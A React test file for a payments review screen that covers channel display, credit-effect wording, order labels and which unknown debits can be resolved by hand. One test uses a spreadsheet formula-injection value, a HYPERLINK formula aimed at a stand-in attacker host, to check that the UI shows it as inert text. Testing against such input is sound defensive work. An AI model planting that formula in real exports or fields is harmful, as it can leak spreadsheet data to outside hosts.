import { render, screen } from '@testing-library/react';
import type { CreditOrder, Review } from '../api';
import { ChannelCell, effect, orderLabel, resolvable } from './Payments';

const review = (channel: string, channelAsSent?: string): Review => ({
  txnId: 'T', refNo: '', kind: 'unknown_txn', amount: 1, asked: 0, currency: 'PHP', channel, channelAsSent, orderNo: '', detail: '', at: '', resolution: null,
});

describe('a payment kept for review, its channel', () => {
  it('shows a known channel as it is', () => {
    render(<ChannelCell row={review('GCSH')} />);
    expect(screen.getByText('GCSH')).toBeTruthy();
    expect(screen.queryByText('unverified, as sent')).toBeNull();
  });
  it('marks what a postback sent outside the digest as unverified text', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"GCash")';
    render(<ChannelCell row={review('', evil)} />);
    expect(screen.getByText('unverified, as sent')).toBeTruthy();
    expect(screen.getByText(evil).tagName).toBe('CODE');
    expect(screen.queryByRole('link')).toBeNull();
  });
});

describe('the order a payment is credited to', () => {
  const order: CreditOrder = {
    orderNo: 'KW250101000082', status: 174, borrower: 'Maria Santos', phone: '0917***4567', currency: 'PHP', owed: 500000, due: 200000,
    owedBy: { penalty: 0, lateInterest: 0, fees: 10000, interest: 40000, principal: 450000 },
  };
  it('says what the payment would do to it', () => {
    expect(effect(500000, 500000)).toEqual({ text: 'settles it', fits: true });
    expect(effect(100000, 500000)).toEqual({ text: 'part-pays it', fits: true });
    expect(effect(500001, 500000)).toEqual({ text: 'more than it owes', fits: false });
  });
  it('shows the borrower, the masked phone and what it owes now', () => {
    const label = orderLabel(order, 100000);
    expect(label).toContain('KW250101000082 · Maria Santos · 0917***4567');
    expect(label).toContain('5,000.00');
    expect(label).toContain('part-pays it');
  });
});

describe('a card debit whose outcome is unknown', () => {
  it('is shown in the queue but not resolved by hand: the provider\'s answer settles it', () => {
    expect(resolvable({ ...review('90006'), kind: 'debit_unknown', amount: -1, asked: 1289000 })).toBe(false);
    expect(resolvable(review('GCSH'))).toBe(true);
  });
});
